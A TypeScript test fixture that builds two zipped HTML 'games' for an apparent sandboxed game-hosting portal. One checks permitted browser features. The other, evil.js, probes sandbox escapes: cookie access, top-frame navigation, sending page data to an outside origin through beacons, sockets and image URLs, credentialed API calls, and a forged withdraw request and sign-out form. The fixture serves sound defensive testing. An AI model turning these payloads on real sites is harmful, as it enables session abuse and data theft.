import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { strToU8, zipSync } from 'fflate'
import sharp from 'sharp'

const font = () =>
  readFileSync(createRequire(import.meta.url).resolve('next/dist/next-devtools/server/font/geist-latin.woff2'))

/** A tenth of a second of silence: RIFF, PCM, mono, 8 kHz, 8 bits. */
function beep(): Buffer {
  const sound = Buffer.alloc(44 + 800, 128)
  sound.write('RIFF', 0)
  sound.writeUInt32LE(836, 4)
  sound.write('WAVEfmt ', 8)
  for (const [at, size] of [
    [16, 16],
    [24, 8000],
    [28, 8000],
    [40, 800],
  ] as const)
    sound.writeUInt32LE(size, at)
  for (const [at, value] of [
    [20, 1],
    [22, 1],
    [32, 1],
    [34, 8],
  ] as const)
    sound.writeUInt16LE(value, at)
  sound.write('data', 36)
  return sound
}

/** (module (func (export "add") (param i32 i32) (result i32) local.get 0 local.get 1 i32.add)) */
const wasm = 'AGFzbQEAAAABBwFgAn9/AX8DAgEABwcBA2FkZAAACgkBBwAgACABags='

/** Uses what games use, and says of each whether it works. */
export async function goodGame(): Promise<Uint8Array> {
  const picture = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#36c' } })
    .png()
    .toBuffer()
  return zipSync({
    'index.html': strToU8(`<!doctype html>
<html lang="zh-CN"><head><title>水循环</title><link rel="stylesheet" href="style.css"></head>
<body><h1>水循环</h1><img src="%E5%9B%BE/%E6%B0%B4.png" alt=""><input aria-label="a"><output id="said"></output>
<script type="module" src="main.mjs"></script></body></html>`),
    'style.css': strToU8(`@font-face{font-family:G;src:url(font.woff2)}h1{color:rgb(1,2,3);font-family:G}`),
    'font.woff2': font(),
    'beep.wav': beep(),
    'data.json': strToU8('{"n":1}'),
    '图/水.png': picture,
    'worker.mjs': strToU8('export const five = () => 5'),
    'main.mjs': strToU8(`import { five } from './worker.mjs'
const tried = async (what) => { try { return await what() } catch (error) { return 'no: ' + error.name } }
const heard = () => new Promise((done) => {
  const sound = new Audio('beep.wav')
  sound.oncanplaythrough = () => done(sound.duration.toFixed(1))
  sound.onerror = () => done('no sound')
})
const bytes = Uint8Array.from(atob('${wasm}'), (sign) => sign.charCodeAt(0))
const inBlob = () => new Promise((done) => {
  const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(6 * 7)'], { type: 'text/javascript' })))
  worker.onmessage = ({ data }) => done(data)
  worker.onerror = () => done('no worker')
})
const said = {
  modules: five(),
  later: (await import('./worker.mjs')).five(),
  style: getComputedStyle(document.querySelector('h1')).color,
  font: await tried(async () => (await document.fonts.load('16px G')).length),
  picture: await tried(async () => { const image = document.images[0]; await image.decode(); return image.naturalWidth }),
  sound: await heard(),
  wasm: await tried(async () => (await WebAssembly.instantiate(bytes)).instance.exports.add(2, 3)),
  storage: await tried(() => { localStorage.setItem('level', 3); localStorage.best = 9; return localStorage.getItem('level') + localStorage.best + localStorage.length }),
  worker: await tried(inBlob),
  fetched: await tried(async () => (await fetch('data.json')).status),
}
addEventListener('keydown', (event) => { event.preventDefault(); event.stopImmediatePropagation() }, true)
document.getElementById('said').textContent = JSON.stringify(said)
`),
  })
}

/**
 * Tries everything that a game must not be able to do, and writes down what came of it.
 * @param outside an origin that hears of whatever gets out
 */
export const evilGame = (outside: string): Uint8Array =>
  zipSync({
    'index.html': strToU8(`<!doctype html><title>x</title>
<link rel="prefetch" href="${outside}/prefetch"><link rel="stylesheet" href="${outside}/style">
<meta http-equiv="refresh" content="600; url=${outside}/refresh">
<img src="${outside}/picture"><video src="${outside}/film"></video>
<iframe src="${outside}/frame"></iframe><object data="${outside}/object"></object>
<form id="out" method="get" action="${outside}/form" target="_blank"></form>
<a id="ping" href="#x" ping="${outside}/ping">x</a><a id="down" href="data.bin" download>x</a>
<script src="${outside}/script"></script><script src="evil.js"></script><output id="said"></output>`),
    'data.bin': strToU8('x'),
    'sw.js': strToU8('self.onfetch = () => {}'),
    'evil.js': strToU8(`
const portal = 'http://127.0.0.1:' + location.port
document.body.insertAdjacentHTML('beforeend', '<iframe src="' + portal + '/my"></iframe><form id="form" method="post" action="' + portal + '/account/sign-out"><input name="next"></form>')
const said = {}
const tried = async (name, what) => {
  try { const came = await what(); said[name] = came === undefined ? 'nothing' : String(came) } catch (error) { said[name] = 'refused' }
}
const over = (socket) => new Promise((done) => { socket.onopen = () => done('open'); socket.onerror = () => done('refused') })
const loaded = (image, src) => new Promise((done) => { image.onload = () => done('loaded'); image.onerror = () => done('refused'); image.src = src })
;(async () => {
  await tried('cookie', () => document.cookie || 'empty')
  await tried('set cookie', () => { document.cookie = 'a=1'; return document.cookie || 'empty' })
  await tried('origin', () => self.origin)
  await tried('parent page', () => parent.document.title)
  await tried('top address', () => top.location.href)
  if (top !== self) await tried('top goes away', () => { top.location = '${outside}/top' })
  await tried('calls', () => typeof RTCPeerConnection)
  await tried('popup', () => (open('${outside}/popup') ? 'open' : 'refused'))
  await tried('api', async () => (await fetch(portal + '/api/users/me', { credentials: 'include' })).status)
  await tried('command', async () => (await fetch(portal + '/commands/work/x/withdraw', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' })).type)
  await tried('own files', async () => (await fetch('data.bin')).status)
  await tried('beacon', () => navigator.sendBeacon('${outside}/beacon', 'x'))
  await tried('xhr', () => new Promise((done, fail) => { const asked = new XMLHttpRequest(); asked.onload = () => done('loaded'); asked.onerror = fail; asked.open('GET', '${outside}/xhr'); asked.send() }))
  await tried('socket', () => over(new WebSocket('${outside}'.replace('http', 'ws'))))
  await tried('events', () => over(new EventSource('${outside}/events')))
  await tried('picture', () => loaded(new Image(), '${outside}/picture2?' + encodeURIComponent(location.href)))
  await tried('picture of the portal', () => loaded(new Image(), portal + '/icon.svg'))
  await tried('module', () => import('${outside}/module.js'))
  await tried('worker', () => new Promise((done) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["fetch('${outside}/worker').then(() => postMessage('got out'), () => postMessage('refused'))"])))
    worker.onmessage = ({ data }) => done(data)
    worker.onerror = () => done('refused')
  }))
  await tried('service worker', () => navigator.serviceWorker.register('sw.js'))
  await tried('database', () => new Promise((done, fail) => { const asked = indexedDB.open('x'); asked.onsuccess = () => done('open'); asked.onerror = fail }))
  await tried('camera', () => navigator.mediaDevices.getUserMedia({ video: true }))
  await tried('place', () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)))
  document.getElementById('ping').click()
  document.getElementById('down').click()
  document.getElementById('form').submit()
  document.getElementById('out').submit()
  alert('x')
  document.getElementById('said').textContent = JSON.stringify(said)
  // Last, when it is told to: it leaves its own frame.
  addEventListener('message', ({ data }) => { location.href = data })
})()
`),
  })
